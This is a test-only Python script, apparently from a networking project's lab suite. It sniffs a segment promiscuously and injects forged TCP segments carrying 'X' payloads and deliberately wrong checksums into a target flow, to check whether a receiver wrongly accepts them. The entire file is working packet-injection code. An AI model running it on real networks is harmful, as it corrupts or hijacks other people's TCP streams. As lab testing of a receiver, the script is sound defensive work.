#!/usr/bin/env python3
"""TEST-ONLY: an attacker on the segment that forges a TCP flow's data with wrong checksums.

It watches every frame on an interface (promiscuous; the lab's bridge floods, like a hub) and, for each IPv4
data segment from VIP:PORT, sends a forged copy of the flow's *next* bytes before the real ones arrive: the same
4-tuple, the sequence number right after the seen segment (inside the receiver's window), the payload replaced
with 'X', and a TCP checksum that is deliberately wrong. A receiver that takes a wrong checksum for offload puts
the forged bytes into its stream. Prints the number of forgeries on SIGTERM, then exits.

usage: forge-segments.py IFACE VIP PORT
"""
import signal
import socket
import struct
import sys

ETH_P_ALL = 0x0003
SOL_PACKET = 263
PACKET_ADD_MEMBERSHIP = 1
PACKET_MR_PROMISC = 1
PACKET_OUTGOING = 4


def ip_header_checksum(header: bytes) -> int:
    total = sum(struct.unpack(f'!{len(header) // 2}H', header))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main() -> None:
    iface, vip, port = sys.argv[1], socket.inet_aton(sys.argv[2]), int(sys.argv[3])
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((iface, 0))
    index = socket.if_nametoindex(iface)
    sock.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, struct.pack('iHH8s', index, PACKET_MR_PROMISC, 0, b''))
    forged = 0

    def stop(*_):
        print(f'forged {forged}', flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, stop)
    print('ready', flush=True)
    while True:
        frame, address = sock.recvfrom(65536 + 14)
        if address[2] == PACKET_OUTGOING or len(frame) < 54 or frame[12:14] != b'\x08\x00':
            continue
        ihl = (frame[14] & 0x0F) * 4
        total = struct.unpack('!H', frame[16:18])[0]
        if frame[23] != 6 or frame[26:30] != vip:
            continue
        tcp = 14 + ihl
        if struct.unpack('!H', frame[tcp:tcp + 2])[0] != port:
            continue
        data_offset = (frame[tcp + 12] >> 4) * 4
        payload = 14 + total - (tcp + data_offset)
        if payload <= 0:
            continue
        # At most one MTU's worth: a GRO-merged segment seen here may be far larger than the wire takes.
        length = min(payload, 1400)
        copy = bytearray(frame[:tcp + data_offset]) + b'X' * length
        copy[16:18] = struct.pack('!H', ihl + data_offset + length)
        copy[24:26] = b'\x00\x00'
        copy[24:26] = struct.pack('!H', ip_header_checksum(bytes(copy[14:14 + ihl])))
        seq = struct.unpack('!I', copy[tcp + 4:tcp + 8])[0]
        copy[tcp + 4:tcp + 8] = struct.pack('!I', (seq + payload) & 0xFFFFFFFF)
        # Whatever the checksum field held (often only the offload's partial sum), make it surely wrong.
        checksum = struct.unpack('!H', copy[tcp + 16:tcp + 18])[0]
        copy[tcp + 16:tcp + 18] = struct.pack('!H', checksum ^ 0x5A5A)
        sock.send(bytes(copy))
        forged += 1


if __name__ == '__main__':
    main()
